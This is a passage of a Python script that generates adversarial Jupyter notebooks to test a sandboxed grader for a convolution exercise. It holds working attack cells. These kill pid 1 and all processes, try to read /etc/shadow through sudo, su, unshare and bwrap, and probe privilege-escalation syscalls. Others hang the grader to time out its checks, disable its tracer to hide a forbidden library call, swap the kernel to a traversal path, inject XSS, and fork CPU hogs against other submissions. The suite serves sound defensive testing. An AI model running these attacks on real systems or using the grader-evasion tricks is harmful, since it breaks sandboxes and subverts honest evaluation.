    Attack(
        "signal_attacks",
        "signal the parent, pid 1, and every process it can see (kill -1 from Python)",
        _code(
            """
            import json, os, signal
            found = {"ppid": os.getppid(), "pid": os.getpid(), "results": {}}

            def attempt(label, fn):
                try:
                    fn()
                    found["results"][label] = "sent"
                except OSError as exc:
                    found["results"][label] = type(exc).__name__

            attempt("SIGKILL parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
            attempt("SIGTERM pid 1", lambda: os.kill(1, signal.SIGTERM))
            attempt("SIGKILL pid 1", lambda: os.kill(1, signal.SIGKILL))
            attempt("SIGSTOP pid 1", lambda: os.kill(1, signal.SIGSTOP))
            attempt("SIGKILL -1", lambda: os.kill(-1, signal.SIGKILL))
            own = {int(t) for t in os.listdir("/proc/self/task")}  # kill(tid) would hit this process
            for pid in range(1, 3000):
                if pid not in own:
                    attempt(f"SIGKILL {pid}", lambda: os.kill(pid, signal.SIGKILL))
            found["results"] = {k: v for k, v in found["results"].items() if v != "ProcessLookupError"}
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "kill_all_shell",
        "`kill -9 -1` from a shell: kills every process of its uid it can see, its own kernel included",
        "import os\nos.system('kill -9 -1')\n",
        "kernel_dies",
        mentions=("the kernel died while running In [",),
    ),
    Attack(
        "kernel_exit",
        "exit the kernel (os._exit) after the honest work is done",
        "import os\nos._exit(0)\n",
        "kernel_dies",
        mentions=("the kernel died while running In [",),
    ),
    Attack(
        "privilege_escalation",
        "become root: setuid, sudo, su, setpriv, unshare -r, nested bwrap, setuid binaries, mount; "
        "raw namespace, mount, ptrace, bpf, io_uring and keyring system calls",
        _code(
            """
            import json, os, stat, subprocess
            found = {"status": {}, "attempts": {}, "setuid_binaries": []}
            for line in open("/proc/self/status"):
                key = line.split(":")[0]
                if key in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
                           "NoNewPrivs", "Seccomp"):
                    found["status"][key] = line.split(":", 1)[1].strip()
            for label, fn in (("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)),
                              ("seteuid", lambda: os.seteuid(0)), ("chroot", lambda: os.chroot("/tmp"))):
                try:
                    fn()
                    found["attempts"][label] = "succeeded"
                except OSError as exc:
                    found["attempts"][label] = exc.strerror
            commands = [
                ["sudo", "-n", "cat", "/etc/shadow"], ["su", "-c", "cat /etc/shadow", "root"],
                ["setpriv", "--reuid=0", "cat", "/etc/shadow"], ["unshare", "-r", "cat", "/etc/shadow"],
                ["unshare", "-rm", "sh", "-c", "mount -t tmpfs none /tmp && echo mounted"],
                ["bwrap", "--bind", "/", "/", "cat", "/etc/shadow"], ["mount", "-t", "proc", "proc", "/tmp"],
                ["cat", "/etc/shadow"],
            ]
            for cmd in commands:
                try:
                    out = subprocess.run(cmd, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
                    found["attempts"][" ".join(cmd)] = [out.returncode, out.stdout[:200], out.stderr[:200]]
                except (OSError, subprocess.TimeoutExpired) as exc:
                    found["attempts"][" ".join(cmd)] = str(exc)[:200]
            for folder in ("/usr/bin", "/usr/sbin", "/usr/lib/dbus-1.0", "/usr/lib/openssh"):
                try:
                    for name in os.listdir(folder):
                        st = os.stat(os.path.join(folder, name))
                        if st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                            found["setuid_binaries"].append(os.path.join(folder, name))
                except OSError:
                    pass
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            found["syscalls"] = {}
            for label, number, args in (  # x86_64 system call numbers
                ("unshare(CLONE_NEWUSER)", 272, (0x10000000,)), ("unshare(CLONE_NEWNS)", 272, (0x00020000,)),
                ("mount tmpfs", 165, (b"none", b"/tmp", b"tmpfs", 0, 0)), ("ptrace(TRACEME)", 101, (0, 0, 0, 0)),
                ("bpf", 321, (0, 0, 0)), ("io_uring_setup", 425, (1, 0)), ("keyctl", 250, (0, 0, 0)),
                ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("userfaultfd", 323, (0,)),
            ):
                ctypes.set_errno(0)
                result = libc.syscall(number, *args)
                found["syscalls"][label] = "succeeded" if result >= 0 else os.strerror(ctypes.get_errno())
            found["uid_after"] = [os.getuid(), os.geteuid(), os.getgid()]
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    # ------------------------------------------------------------------ dodging checks
    Attack(
        "timeout_dodge",
        "hang inside conv2d_simple on the grader's first call, to time the checks out",
        _code(
            """
            import time
            _honest = conv2d_simple
            _hung = []

            def conv2d_simple(input_image, filter, filter_size):
                if not _hung:
                    _hung.append(1)
                    time.sleep(3600)
                return _honest(input_image, filter, filter_size)
            """
        ),
        "one_timeout",
        mentions=("a check ran out of time",),
    ),
    Attack(
        "timeout_dodge_hard",
        "hang uninterruptibly inside conv2d_simple on the grader's first call",
        _code(
            """
            import time
            from signal import SIG_IGN, SIGINT
            from signal import signal as _set_handler
            _honest = conv2d_simple
            _hung = []

            def conv2d_simple(input_image, filter, filter_size):
                if not _hung:
                    _hung.append(1)
                    _set_handler(SIGINT, SIG_IGN)
                    while True:
                        try:
                            time.sleep(0.5)
                        except BaseException:
                            pass
                return _honest(input_image, filter, filter_size)
            """
        ),
        "kernel_dies",
        mentions=("did not respond to an interrupt and was stopped",),
    ),
    Attack(
        "forbidden_call_evasion",
        "use a forbidden library convolution (np.correlate) hidden from the source check and the tracer",
        _code(
            """
            import base64, json, sys
            _w = sys.modules["_grader_witness"]
            _real = _w.handle

            def _no_tracer(blob):
                request = json.loads(base64.b64decode(blob))
                request["forbid"] = []
                return _real(base64.b64encode(json.dumps(request).encode()).decode())

            _w.handle = _no_tracer
            _library = getattr(np, "corr" + "elate")

            def conv2d_simple(input_image, filter, filter_size):
                image = np.asarray(input_image, dtype=np.float64)
                kernel = np.asarray(filter, dtype=np.float64)
                out = np.zeros((image.shape[0] - filter_size + 1, image.shape[1] - filter_size + 1))
                for i in range(out.shape[0]):
                    for r in range(filter_size):
                        out[i] += _library(image[i + r], kernel[r], "valid")
                return out
            """
        ),
        "forbidden",
    ),
    # ------------------------------------------------------------------ the notebook file itself
    Attack(
        "kernelspec_swap",
        "ask for another kernel in the notebook's metadata (a path, bash)",
        "print('which kernel am I?')\n",
        "full",
        metadata={
            "kernelspec": {"name": "../../../../bin/sh", "display_name": "evil", "language": "bash"},
            "language_info": {"name": "bash"},
        },
    ),
    Attack(
        "report_injection",
        "put HTML/JS and terminal escapes into an error message shown on the report",
        _code(
            """
            print("<script>alert('stdout')</script>")
            raise RuntimeError("<script>alert('xss')</script><img src=x onerror=alert(1)> \\x1b[31mred\\x1b[0m")
            """
        ),
        "full",
        mentions=("<script>alert('xss')</script>",),
    ),
]

# Attacks on the *other* submissions of a batch: graded in a batch of their own beside
# the reference solution (in the main batch they would disturb every other attack).
NEIGHBOUR_ATTACKS: list[Attack] = [
    Attack(
        "cpu_hog",
        "fork as many busy processes as allowed, from the first cell, to starve the other kernels",
        _code(
            """
            import os, time
            for _ in range(min(60, 20 * (os.cpu_count() or 1))):
                try:
                    if os.fork() == 0:
                        os.setsid()  # a session of its own: the scheduler's autogroup is per session
                        end = time.time() + 120
                        while time.time() < end:
                            pass
                        os._exit(0)
                except OSError:
                    break
            """
        ),
        "neighbour",
        where="start",
    ),
]

BY_NAME = {a.name: a for a in [*ATTACKS, *NEIGHBOUR_ATTACKS, *CONTROLS.values()]}


def _cell(source: str, cell_id: str, outputs: tuple = ()) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(source)
    cell.id = cell_id
    cell.metadata = {"tags": ["attack"]}
    cell.outputs = [nbformat.from_dict(copy.deepcopy(o)) for o in outputs]
    if outputs:
        cell.execution_count = 1
    return cell


def build(attack: Attack) -> nbformat.NotebookNode:
    """The reference solution with the attack's cell(s) inserted."""
    nb = nbformat.read(REFERENCE, as_version=4)
    cells = [_cell(attack.code, "attack", attack.outputs)]
    cells += [_cell(src, f"attack-{i}", outs) for i, (src, outs) in enumerate(attack.extra_cells, 1)]
    code_positions = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    at = {"end": len(nb.cells), "start": code_positions[0], "after_imports": code_positions[0] + 1}[attack.where]
    nb.cells[at:at] = cells
    nb.metadata.update(copy.deepcopy(attack.metadata))
    nbformat.validate(nb)
    return nb


def render(attack: Attack) -> str:
    return nbformat.writes(build(attack)) + "\n"


def main(out: Path = OUT) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    wanted = {f"{name}.ipynb" for name in BY_NAME}
    for stale in out.glob("*.ipynb"):
        if stale.name not in wanted:
            stale.unlink()
    written = []
    for name, attack in sorted(BY_NAME.items()):
        path = out / f"{name}.ipynb"
        path.write_text(render(attack), encoding="utf-8")
        written.append(path)
    return written


if __name__ == "__main__":
    paths = main(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
    print(f"wrote {len(paths)} notebooks to {paths[0].parent}")
